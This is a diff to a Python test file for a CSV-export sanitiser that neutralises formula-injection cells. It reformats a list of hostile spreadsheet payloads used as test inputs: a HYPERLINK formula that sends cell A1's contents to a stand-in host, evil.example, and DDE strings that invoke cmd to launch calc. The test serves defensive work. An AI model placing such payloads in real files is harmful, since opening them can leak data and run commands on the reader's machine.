@@ -2,6 +2,7 @@
 starts with =, +, -, @, a tab or a carriage return gets a leading apostrophe; numbers and the JSON files keep
 their values. One helper (ashyq.core.csv_safe) serves every writer, and a test below finds any writer that
 bypasses it."""
+
 import csv
 import io
 import json
@@ -15,8 +16,14 @@ from django.core.management import call_command
 from ashyq.core.csv_safe import safe_cell, writer
 from tests.public_record_helpers import publish
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
